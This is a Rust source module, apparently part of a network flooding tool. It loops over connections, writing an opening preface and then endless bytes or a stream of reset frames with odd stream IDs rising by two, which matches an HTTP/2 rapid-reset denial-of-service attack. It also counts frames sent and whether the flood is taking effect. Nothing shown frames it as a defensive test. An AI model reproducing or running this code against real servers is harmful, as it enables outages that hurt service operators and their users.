//! Bytes without end on one connection, until it is closed; then on the next.

use super::frames::reset_stream;
use super::{Counts, Flood, Plan};
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::{MissedTickBehavior, interval};

/// Pours for ever, at most one piece every `every`.
pub(super) async fn pour(plan: &Plan, place: usize, counts: &Counts, opening: &[u8], flood: &Flood, every: Duration) {
    let mut once = false;
    let mut ticks = interval(every);
    ticks.set_missed_tick_behavior(MissedTickBehavior::Delay);
    loop {
        ticks.tick().await;
        let Some(stream) = plan.connect(place, counts).await else {
            continue;
        };
        let (mut reader, mut writer) = stream.into_split();
        // What is said back is read, so that nothing is held up by it.
        let listening = tokio::spawn(async move {
            let mut chunk = [0; 4096];
            while matches!(reader.read(&mut chunk).await, Ok(1..)) {}
        });
        let mut is_open = writer.write_all(opening).await.is_ok();
        let mut stream_id: u32 = 1;
        while is_open {
            ticks.tick().await;
            is_open = match flood {
                Flood::Bytes(bytes) => writer.write_all(bytes).await.is_ok(),
                Flood::Resets { block, provoked } => {
                    let bytes = reset_stream(stream_id, block, *provoked);
                    writer.write_all(&bytes).await.is_ok()
                }
            };
            stream_id += 2;
            counts.sent();
            counts.is_in_force(&mut once);
            is_open &= !listening.is_finished();
        }
        listening.abort();
        counts.shown_out();
        counts.is_in_force(&mut once);
    }
}
